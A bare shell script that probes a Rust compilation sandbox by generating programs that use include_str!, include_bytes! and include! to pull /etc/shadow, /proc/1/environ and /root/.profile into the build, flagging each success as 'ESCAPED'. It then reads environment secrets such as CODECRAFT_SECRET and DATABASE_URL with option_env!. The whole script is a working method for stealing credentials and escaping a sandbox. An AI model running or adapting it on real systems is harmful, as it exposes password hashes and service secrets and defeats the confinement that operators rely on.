for f in /etc/shadow /proc/1/environ /root/.profile /var/lib/dpkg/status; do
  echo "fn main() { println!(\"{}\", include_str!(\"$f\")); }" > a.rs
  rustc a.rs 2>/dev/null && echo ESCAPED include_str $f
  echo "static X: &[u8] = include_bytes!(\"$f\"); fn main() { }" > a.rs
  rustc a.rs 2>/dev/null && echo ESCAPED include_bytes $f
  echo "include!(\"$f\"); fn main() { }" > a.rs
  rustc a.rs 2>&1 | grep -E 'root:|SECRET' && echo ESCAPED include $f
done
echo 'fn main() { println!("{:?} {:?}", option_env!("CODECRAFT_SECRET"), option_env!("DATABASE_URL")); }' > e.rs
rustc e.rs && ./e
echo done
